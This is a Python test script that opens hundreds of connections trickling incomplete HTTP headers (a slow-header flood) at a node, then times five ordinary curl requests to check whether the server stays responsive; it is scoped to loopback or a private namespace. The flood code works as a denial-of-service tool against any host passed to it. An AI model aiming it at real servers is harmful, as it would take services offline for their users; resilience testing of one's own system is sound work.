#!/usr/bin/env python3
"""A slow-header flood against a node, and well-behaved requests during it.

    scripts/slow-header-flood.py HOST PORT [N] [SECONDS]

Opens N connections (default 300) that send the start of a request head
and then one byte a second, never finishing it; after 1.5 s sends five
well-behaved GETs (curl, a fresh connection each, a second apart) and
prints each one's status and time, and how many flood connections the
node has left open. Loopback or a namespace of your own only.
"""
import socket
import subprocess
import sys
import threading
import time

host, port = sys.argv[1], int(sys.argv[2])
n = int(sys.argv[3]) if len(sys.argv) > 3 else 300
socks = []
for i in range(n):
    s = socket.socket()
    s.connect((host, port))
    s.send(b"GET /v0/entity?id=k HTTP/1.1\r\nHost: x\r\n")
    socks.append(s)
print(f"flood: {len(socks)} connections open", flush=True)
stop = False


def trickle():
    while not stop:
        for s in list(socks):
            try:
                s.send(b"X")
            except OSError:
                socks.remove(s)
        time.sleep(1)


threading.Thread(target=trickle, daemon=True).start()
time.sleep(1.5)
for k in range(5):
    t = time.time()
    code = subprocess.run(
        ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-m", "20",
         f"http://{host}:{port}/v0/entity?id=k"],
        capture_output=True, text=True).stdout
    print(f"good request {k + 1}: {code} in {(time.time() - t) * 1000:.0f} ms; "
          f"flood connections open: {len(socks)}", flush=True)
    time.sleep(1)
stop = True
